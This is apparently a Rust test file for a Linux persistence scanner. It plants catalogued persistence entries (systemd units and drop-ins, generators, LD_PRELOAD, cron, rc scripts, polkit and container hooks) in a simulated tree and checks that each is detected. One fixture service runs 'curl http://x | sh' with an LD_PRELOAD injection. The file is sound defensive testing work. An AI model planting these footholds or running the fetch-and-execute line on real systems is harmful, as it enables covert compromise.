//! Each way of the catalog that leaves a file is planted in a tree, and found there without anything running.

use super::*;
use crate::detect::rule::Severity;
use crate::proof::inventory::survey::Survey;
use crate::proof::inventory::survey::tests::{Owns, Tree};

const SERVICE: &str = "[Service]\nExecStart=/opt/x\n";
const RUN: &str = "#!/bin/sh\n/opt/x\n";
const VENDOR: &str = "/usr/lib/systemd/system/ssh.service";
const SHELL: &str = "/usr/lib/systemd/system/debug-shell.service";

/// Row of the catalog, path, and what is planted there: `-> target` for a link.
const PLANTS: &[(&str, &str, &str)] = &[
    ("A1.1", "/etc/systemd/system.control/x.service", SERVICE),
    ("A1.2", "/run/systemd/system.control/x.service", SERVICE),
    ("A1.5", "/etc/systemd/system/x.service", SERVICE),
    ("A1.6", "/etc/systemd/system.attached/x.service", SERVICE),
    ("A1.7", "/run/systemd/system/x.service", SERVICE),
    ("A1.8", "/usr/local/lib/systemd/system/x.service", SERVICE),
    ("A1.9", "/usr/lib/systemd/system/x.service", SERVICE),
    ("A1.11", "/run/capsules/c/systemd/user/x.service", SERVICE),
    ("A2.2", "/etc/systemd/system/ssh.timer", "[Timer]\nOnBootSec=1\n"),
    ("A2.3", "/etc/systemd/system/x.socket", "[Socket]\nListenStream=4444\n"),
    ("A2.4", "/etc/systemd/system/x.path", "[Path]\nPathExists=/x\n"),
    ("A2.5", "/etc/systemd/system/usr-sbin.mount", "[Mount]\nWhat=/opt/x\nWhere=/usr/sbin\nOptions=bind\n"),
    ("A2.7", "/etc/systemd/system/default.target", "-> /opt/x.target"),
    ("A2.8", "/etc/systemd/system/x@.service", "[Service]\nExecStart=/bin/sh %I\n"),
    ("A2.10", "/etc/udev/rules.d/x.rules", "ACTION==\"add\", ENV{SYSTEMD_WANTS}=\"x.service\"\n"),
    ("A2.11", "/etc/systemd/system/dbus-org.x.service", "-> /opt/x.service"),
    ("A3.1", "/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPost=/opt/x\n"),
    ("A3.2", "/etc/systemd/system/service.d/x.conf", "[Service]\nExecStartPost=/opt/x\n"),
    ("A3.3", "/etc/systemd/system/foo-.service.d/x.conf", "[Service]\nExecStartPost=/opt/x\n"),
    ("A3.4", "/etc/systemd/system/getty@tty1.service.d/x.conf", "[Service]\nExecStartPost=/opt/x\n"),
    ("A3.6", "/run/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPost=/opt/x\n"),
    ("A3.7", "/etc/systemd/system/ssh.service.d", "-> /opt/d"),
    ("A3.8", "/etc/systemd/system/user@.service.d/x.conf", "[Service]\nExecStartPost=/opt/x\n"),
    ("A4.4", "/etc/systemd/system/tmp.service", "-> /tmp/tmp.service"),
    ("A4.5", "/etc/systemd/system-preset/00-x.preset", "enable x.service\n"),
    ("A4.6", "/etc/systemd/system/auditd.service", "-> /dev/null"),
    (
        "A4.7",
        "/etc/systemd/system/sysinit.target.wants/debug-shell.service",
        "-> /usr/lib/systemd/system/debug-shell.service",
    ),
    ("A5.1", "/run/systemd/system-generators/x", RUN),
    ("A5.2", "/etc/systemd/system-generators/x", RUN),
    ("A5.3", "/usr/local/lib/systemd/system-generators/x", RUN),
    ("A5.4", "/usr/lib/systemd/system-generators/x", RUN),
    ("A5.5", "/etc/systemd/system-environment-generators/x", RUN),
    ("A5.6", "/usr/lib/systemd/user-generators/x", RUN),
    ("A5.7", "/etc/systemd/user-environment-generators/x", RUN),
    ("A6.1", "/etc/systemd/system.conf.d/x.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n"),
    ("A6.2", "/etc/systemd/user.conf.d/x.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n"),
    ("A6.4", "/etc/environment.d/x.conf", "LD_PRELOAD=/tmp/x.so\n"),
    ("A6.7", "/etc/default/grub.d/x.cfg", "GRUB_CMDLINE_LINUX=init=/opt/x\n"),
    ("A6.8", "/etc/tmpfiles.d/x.conf", "f+ /etc/systemd/system/x.service 0644 root root - x\n"),
    ("A6.9", "/usr/lib/systemd/system-sleep/x", RUN),
    ("A7.7", "/etc/polkit-1/rules.d/x.rules", "polkit.addRule(function() { return polkit.Result.YES; });\n"),
    ("A8.1", "/home/m/.config/systemd/user/x.service", SERVICE),
    ("A8.2", "/home/m/.local/share/systemd/user/x.service", SERVICE),
    ("A8.5", "/etc/systemd/user/x.service", SERVICE),
    ("A8.6", "/srv/alice/.config/systemd/user/x.service", SERVICE),
    ("A8.7", "/home/m/.config/systemd/user/default.target.wants/x.service", "-> /home/m/x.service"),
    ("A8.8", "/var/lib/systemd/linger/m", ""),
    ("A8.9", "/root/.config/systemd/user/x.service", SERVICE),
    ("A9.1", "/var/lib/extensions/x.raw", "image"),
    ("A9.2", "/var/lib/confexts/x.raw", "image"),
    ("A9.3", "/var/lib/portables/x.raw", "image"),
    ("A9.5", "/etc/systemd/nspawn/x.nspawn", "[Exec]\nBoot=yes\n"),
    (
        "A9.6",
        "/etc/systemd/system/ssh.service.d/bind.conf",
        "[Service]\nBindPaths=/tmp/sshd:/usr/sbin/sshd\n",
    ),
    ("A9.7", "/etc/initramfs-tools/scripts/init-bottom/x", RUN),
    ("A10.1", "/etc/init.d/x", RUN),
    ("A10.2", "/etc/rc2.d/S20x", "-> /opt/x"),
    ("A10.3", "/etc/rc.local", RUN),
    ("A10.4", "/etc/init/x.conf", "exec /opt/x\n"),
    ("A10.5", "/etc/local.d/x.start", RUN),
    ("A10.6", "/etc/sv/x/run", RUN),
    ("A10.7", "/etc/xinetd.d/x", "service x\n{\nserver = /opt/x\n}\n"),
    ("A11", "/etc/cron.d/x", "* * * * * root /opt/x\n"),
    ("A11", "/etc/ld.so.preload", "/opt/x.so\n"),
    ("A11", "/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/opt/x\n"),
    ("A11", "/etc/dbus-1/system-services/x.service", "[D-BUS Service]\nName=x\nExec=/opt/x\nUser=root\n"),
    ("A11", "/etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke {\"/opt/x\";};\n"),
    ("A11", "/etc/NetworkManager/dispatcher.d/x", RUN),
    ("B1.10", "/etc/docker/daemon.json", r#"{"hosts": ["tcp://0.0.0.0:2375"]}"#),
    (
        "B2.4",
        "/etc/containerd/config.toml",
        "[plugins.x.runtimes.runc.options]\nBinaryName = \"/tmp/runc\"\n",
    ),
    (
        "B2.6",
        "/etc/containers/oci/hooks.d/x.json",
        r#"{"version":"1.0.0","hook":{"path":"/tmp/x"},"when":{"always":true}}"#,
    ),
    ("B2.7", "/opt/cni/bin/x", RUN),
    ("B2.8", "/etc/cdi/x.yaml", "containerEdits:\n  hooks:\n  - {hookName: createRuntime, path: /opt/x}\n"),
    ("B3.3", "/etc/containers/systemd/x.container", "[Container]\nImage=x\nVolume=/:/host\n"),
    ("B3.4", "/home/m/.config/containers/systemd/x.container", "[Container]\nImage=x\n"),
    ("B3.8", "/etc/containers/containers.conf", "[engine]\nhooks_dir = [\"/opt/h\"]\n"),
    (
        "B4",
        "/etc/kubernetes/manifests/x.yaml",
        "kind: Pod\nspec: {hostPID: true, containers: [{name: a, image: b}]}\n",
    ),
];

fn ground() -> Tree {
    let tree = Tree::new();
    tree.link("/lib", "usr/lib")
        .file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/srv/alice:/bin/sh\nm:x:1001:1001::/home/m:/bin/sh\n")
        .file(VENDOR, "[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n")
        .file(SHELL, "[Service]\nExecStart=/bin/sh\nStandardInput=tty\nTTYPath=/dev/tty9\n[Install]\nWantedBy=sysinit.target\n")
        .file("/usr/sbin/sshd", "\x7fELF sshd")
        .link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
        .file("/opt/x", "\x7fELF x")
        .file("/opt/x.service", SERVICE)
        .file("/opt/x.target", "[Unit]\nWants=x.service\n")
        .file("/opt/d/x.conf", "[Service]\nExecStartPost=/opt/x\n")
        .file("/tmp/tmp.service", SERVICE)
        .file("/home/m/x.service", SERVICE);
    tree
}

fn look(tree: &Tree) -> Survey {
    tree.survey_with(&mut Owns(&[VENDOR, SHELL, "/usr/sbin/sshd"]))
}

#[test]
fn a_machine_of_packages_alone_is_clean() {
    let survey = look(&ground());
    let (risks, sum) = weigh(&survey);
    let told: Vec<_> =
        risks.iter().map(|risk| String::from_utf8_lossy(&risk.entry.path).into_owned()).collect();
    assert_eq!(told, [""; 0]);
    assert_eq!((sum.total(), sum.total_proved(), sum.packages), (3, 3, 1));
}

#[test]
fn every_plant_of_the_catalog_is_found() {
    let mut missed = Vec::new();
    for (row, path, planted) in PLANTS {
        let tree = ground();
        match planted.strip_prefix("-> ") {
            Some(target) => tree.link(path, target),
            None => tree.program(path, planted),
        };
        let survey = look(&tree);
        let (risks, _) = weigh(&survey);
        let named = |risk: &&Risk<'_>| {
            risk.entry.path == path.as_bytes() || risk.links.iter().any(|link| link.path == path.as_bytes())
        };
        match risks.iter().find(named) {
            // What has no sound use at all weighs more by its signals; whatever no package brings is at least told.
            Some(risk) if risk.severity >= least(row) => {}
            other => missed.push(format!("{row} {path}: {:?}", other.map(|risk| (risk.score, &risk.why)))),
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// A mask, a linger file and variables of a file without odd ones run nothing by themselves.
fn least(row: &str) -> Severity {
    match row {
        "A4.5" | "A4.6" | "A8.8" => Severity::Info,
        _ => Severity::Low,
    }
}

#[test]
fn what_is_odd_comes_first() {
    let tree = ground();
    tree.file("/etc/systemd/system/own.service", "[Service]\nExecStart=/opt/x\nUser=alice\n")
        .file(
            "/etc/systemd/system/evil.service",
            "[Service]\nExecStart=/bin/sh -c \"curl http://x | sh\"\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
        )
        .link("/etc/systemd/system/multi-user.target.wants/evil.service", "../evil.service");
    let survey = look(&tree);
    let (risks, _) = weigh(&survey);
    let names: Vec<_> = risks.iter().map(|risk| (&*risk.entry.name, risk.severity)).collect();
    assert_eq!(names[0].0, "evil.service", "{names:?}");
    assert!(names[0].1 >= Severity::High, "{:?}", risks[0]);
    assert_eq!(risks[0].links.len(), 1, "the link is told with it");
    assert_eq!(names.len(), 2, "{names:?}");
}
